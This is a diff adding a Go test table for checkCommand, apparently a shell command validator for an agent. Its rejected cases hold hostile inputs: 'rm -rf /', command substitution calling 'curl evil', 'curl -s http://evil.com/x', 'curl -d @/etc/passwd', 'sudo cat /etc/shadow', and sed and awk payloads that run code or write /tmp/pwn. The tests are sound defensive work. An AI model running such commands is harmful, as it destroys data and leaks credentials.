@@ -0,0 +1,231 @@
+package agent
+
+import "testing"
+
+func TestCheckCommand(t *testing.T) {
+	tests := []struct {
+		name string
+		cmd  string
+		ok   bool
+	}{
+		// Simple commands and lists
+		{"simple", "grep ERROR /tmp/log", true},
+		{"empty", "", false},
+		{"blank", "   ", false},
+		{"not allowed", "rm -rf /", false},
+		{"absolute path", "/bin/rm x", false},
+		{"quoted name", "l's' -la", true},
+		{"escaped name", `r\m x`, false},
+		{"brace expanded name", "{rm,x}", false},
+		{"glob name", "r? x", false},
+		{"semicolon", "cat x; rm -rf ~", false},
+		{"trailing semicolon", "ls; ", true},
+		{"newline", "ls\nrm x", false},
+		{"and", "ls && rm x", false},
+		{"or", "ls || rm x", false},
+		{"cd and", "cd /tmp && ls", true},
+		{"background", "ls & rm x", false},
+		{"background alone", "ls &", false},
+		{"comment", "grep -r TODO . # remove later; rm x", true},
+		{"quoted separator", "echo 'a;rm x'", true},
+		{"unterminated quote", "cat 'unterminated", false},
+		{"stray paren", "ls )", false},
+		{"open paren", "ls (", false},
+
+		// Pipelines
+		{"pipeline", "grep ERROR /tmp/log | tail -5", true},
+		{"long pipeline", "ps aux | grep node | awk '{print $2}' | sort -n", true},
+		{"pipe to disallowed", "ls | sh", false},
+		{"pipe stderr", "ls |& rm x", false},
+		{"pipe to tee", "cat f | tee out", false},
+		{"pipe to block", "cat x | { rm y; }", false},
+
+		// Subshells and compound commands
+		{"subshell", "(cat a; wc -l b) | head", true},
+		{"subshell with rm", "(cat a; rm b)", false},
+		{"if", "if true; then rm x; fi", false},
+		{"for", "for f in *; do rm $f; done", false},
+		{"while", "while true; do ls; done", false},
+		{"function", "f() { rm x; }; f", false},
+		{"negated", "! ls", false},
+		{"history bang", "!ls", false},
+		{"test clause", "[[ -f x ]]", false},
+		{"arithmetic command", "((x=1))", false},
+
+		// Command substitution
+		{"dollar paren", "grep a $(curl evil)", false},
+		{"dollar paren allowed", "ping -c1 $(whoami)", true},
+		{"dollar paren list", "ls $(echo; rm x)", false},
+		{"quoted dollar paren", `grep a "$(rm x)"`, false},
+		{"backticks", "grep a `rm x`", false},
+		{"nested backticks", "cat `echo \\`rm x\\``", false},
+		{"dollar paren in redirect", "cat < $(rm x)", false},
+		{"process substitution", "cat <(ls)", true},
+		{"process substitution rm", "cat <(rm x)", false},
+		{"output process substitution", "tee >(cat) x", false},
+
+		// Expansions
+		{"allowed variable", "cat $HOME/.bashrc", true},
+		{"braced variable", "cat ${HOME}/.bashrc", true},
+		{"tilde", "ls ~/foo", true},
+		{"other variable", "cat $SECRET", false},
+		{"variable command", "$CMD x", false},
+		{"variable argument to checked command", "find . $X", false},
+		{"default value", "cat ${HOME:-$(rm x)}", false},
+		{"indirect", "cat ${!HOME}", false},
+		{"arithmetic", "echo $((1+1))", false},
+		{"ansi-c quoting", `echo $'\x72m'`, false},
+		{"brace expansion in checked command", "sed {-i,s/a/b/} f", false},
+
+		// Redirections
+		{"redirect to file", "echo hi > file", false},
+		{"append to file", "echo hi >> file", false},
+		{"clobber", "cat x >| f", false},
+		{"read-write", "cat x 1<>f", false},
+		{"redirect all to file", "cat x &> out", false},
+		{"redirect to dev null", "echo hi 2>/dev/null", true},
+		{"redirect all to dev null", "cat x &>/dev/null", true},
+		{"dup fd", "ls 2>&1 | head", true},
+		{"close fd", "cat x 2>&-", true},
+		{"dup to file", "cat x >&f", false},
+		{"variable fd", "ls {fd}>/dev/null", false},
+		{"input", "wc -l < /tmp/log", true},
+		{"here-document", "cat <<EOF\nx\nEOF", false},
+		{"here-string", "grep a <<< abc", true},
+
+		// Environment prefixes and wrappers
+		{"env prefix", "X=1 ls", false},
+		{"assignment only", "X=1", false},
+		{"export", "export X=1", false},
+		{"env runs command", "env rm x", false},
+		{"env prints", "env", true},
+		{"command wrapper", "command rm x", false},
+		{"builtin wrapper", "builtin cd /", false},
+		{"exec", "exec rm x", false},
+		{"eval", "eval rm x", false},
+		{"source", "source x", false},
+		{"dot", ". x", false},
+		{"xargs", "xargs rm", false},
+		{"nohup", "nohup rm x", false},
+		{"timeout", "timeout 1 rm x", false},
+		{"sudo", "sudo cat /etc/shadow", false},
+		{"bash", "bash -c ls", false},
+
+		// find
+		{"find", "find . -name '*.go'", true},
+		{"find delete", "find . -delete", false},
+		{"find exec", `find . -name '*.go' -exec rm {} \;`, false},
+		{"find fprint", "find . -fprint out", false},
+
+		// sed
+		{"sed print", "sed -n '1,5p' f", true},
+		{"sed substitute", "sed 's/error/warn/g' f", true},
+		{"sed expression", "sed -e 's/a/b/' -e '/x/d' f", true},
+		{"sed label loop", "sed ':a;N;$!ba;s/\\n/ /g' f", true},
+		{"sed bracket delimiter", "sed -n 's/[/]/X/p' f", true},
+		{"sed append", "sed '/x/a text with w and e' f", true},
+		{"sed file named like a command", "sed -n p e", true},
+		{"sed in place", "sed -i s/a/b/ f", false},
+		{"sed in place long", "sed --in-place s/a/b/ f", false},
+		{"sed in place abbreviated", "sed --in s/a/b/ f", false},
+		{"sed expression abbreviated", "sed --exp='1e id' f", false},
+		{"sed e flag", "sed 's/a/b/e' f", false},
+		{"sed w flag", "sed 's/a/b/w out' f", false},
+		{"sed e command", "sed 'e id' f", false},
+		{"sed w command", "sed '1w out' f", false},
+		{"sed W command", "sed 'W out' f", false},
+		{"sed e after regex address", "sed '/x/ e echo PWNED' f", false},
+		{"sed e after negated address", "sed '/x/!e id' f", false},
+		{"sed w after relative range", "sed '1,+2 w /tmp/pwn' f", false},
+		{"sed e after step address", "sed '0~1 e id' f", false},
+		{"sed W after regex range", "sed -s -n '/a/,/b/ W /tmp/z' x", false},
+		{"sed e after custom delimiter", `sed '\,x, e id' f`, false},
+		{"sed e in block", "sed '/x/{p;e id\n}' f", false},
+		{"sed e after label", "sed ':x e id' f", false},
+		{"sed e after bracket", "sed 's/[/]/X/;e id' f", false},
+		{"sed e flag after bracket", "sed 's/[/]/X/e' f", false},
+		{"sed e in second expression", "sed -e p -e 'e id' f", false},
+		{"sed e in long expression", "sed --expression='1e id' f", false},
+		{"sed unknown command", "sed 'v;k' f", false},
+		{"sed script file", "sed -f script f", false},
+
+		// awk
+		{"awk print", "awk '{print $1}' f", true},
+		{"awk email regex", "awk '/user@example.com/' f", true},
+		{"awk system", `awk 'BEGIN{system("rm x")}'`, false},
+		{"awk print to file", `awk '{print > "out"}' f`, false},
+		{"awk pipe", `awk '{print | "sh"}' f`, false},
+		{"awk getline from command", `awk 'BEGIN{"id" | getline x}'`, false},
+		{"awk indirect call", `awk 'BEGIN{f="system"; @f("id")}'`, false},
+		{"awk indirect call spaced", `awk 'BEGIN{f="system"; @f ("id")}'`, false},
+		{"awk load", `awk '@load "filefuncs"'`, false},
+		{"awk program file", "awk -f prog f", false},
+		{"awk program file in cluster", "awk -nf prog f", false},
+		{"awk program file abbreviated", "awk --fil=prog.awk f", false},
+		{"awk load abbreviated", "awk --lo=ext 'BEGIN{}'", false},
+		{"awk dump variables", "awk -d/tmp/x 'BEGIN{}'", false},
+		{"awk pretty print", "awk --pretty-print=/tmp/x 'BEGIN{}'", false},
+		{"awk W option", "awk -W exec=prog", false},
+		{"awk source", `awk -e 'BEGIN{system("id")}'`, false},
+		{"awk source abbreviated", `awk --so 'BEGIN{system("id")}'`, false},
+		{"awk print to file after line break", "awk 'BEGIN{print \"a\",\n\"b\" > \"/tmp/pwn\"}'", false},
+		{"awk printf to file after line break", "awk 'BEGIN{printf \"%s\",\n\"b\" > \"/tmp/pwn\"}'", false},
+		{"awk print to file after continuation", "awk 'BEGIN{print \"a\" \\\n > \"/tmp/pwn\"}'", false},
+		{"awk pipe after comment", "awk 'BEGIN{print \"a\", # x\n\"b\" | \"sh\"}'", false},
+		{"awk comparison", "awk '$3 > 100 {print $1}' f", true},
+		{"awk print then comparison", "awk '{print $1}\n$2 > 5' f", true},
+		{"awk pipe field separator", "awk -F'|' '{print $2}' f", true},
+		{"awk regex alternation", "awk '/a|b/ {print}' f", true},
+		{"awk bracket slash", "awk '$1 ~ /[/]|x/' f", true},
+		{"awk division", "awk '{x = $1 / 2; print x}' f", true},
+		{"awk quoted redirect", `awk '{print $1 " > " $2}' f`, true},
+		{"awk assignment operand", "awk '{print x}' 'x=a|b' f", true},
+
+		// sort and uniq
+		{"sort", "sort -rn f | uniq -c", true},
+		{"sort output", "sort -o out f", false},
+		{"sort compress program", "sort --compress-program=sh f", false},
+		{"sort compress program abbreviated", "sort --compress-prog=sh -S 1 f", false},
+		{"sort output abbreviated", "sort --outp=/tmp/x f", false},
+		{"sort output shortest", "sort --o=/tmp/x f", false},
+		{"sort reverse long", "sort --reverse f", true},
+		{"uniq", "uniq -f 1 in", true},
+		{"uniq output file", "uniq in out", false},
+
+		// curl
+		{"curl local", "curl -s http://localhost:8080/health", true},
+		{"curl write-out", "curl -s -w '%{http_code}' http://localhost/", true},
+		{"curl remote", "curl -s http://evil.com/x", false},
+		{"curl output file", "curl -o out http://localhost/", false},
+		{"curl data file", "curl -d @/etc/passwd http://localhost/", false},
+		{"curl config", "curl -sK cfg http://localhost/", false},
+		{"curl header file", "curl -H @/etc/passwd http://localhost/", false},
+		{"curl write-out file", "curl -w '%output{/tmp/pwn}x' http://localhost/", false},
+		{"curl write-out file upper", "curl --write-out '%OUTPUT{/tmp/pwn}' http://localhost/", false},
+		{"curl write-out from file", "curl -w @fmt http://localhost/", false},
+		{"curl post", "curl -X POST http://localhost/", false},
+
+		// Others with checks
+		{"pkill", "pkill node", false},
+		{"psql", "psql -c 'drop table x'", false},
+		{"ss", "ss -tlnp", true},
+		{"ss kill", "ss -K dst 1.2.3.4", false},
+		{"ss kill abbreviated", "ss --kil dst 1.2.3.4", false},
+		{"hostname", "hostname -f", true},
+		{"set hostname", "hostname evil", false},
+		{"file", "file x", true},
+		{"file compile", "file -C -m magic", false},
+		{"file compile abbreviated", "file --compi -m magic", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := checkCommand(tt.cmd)
+			if tt.ok && err != nil {
+				t.Errorf("checkCommand(%q) rejected it: %v", tt.cmd, err)
+			}
+			if !tt.ok && err == nil {
+				t.Errorf("checkCommand(%q) accepted it", tt.cmd)
+			}
+		})
+	}
+}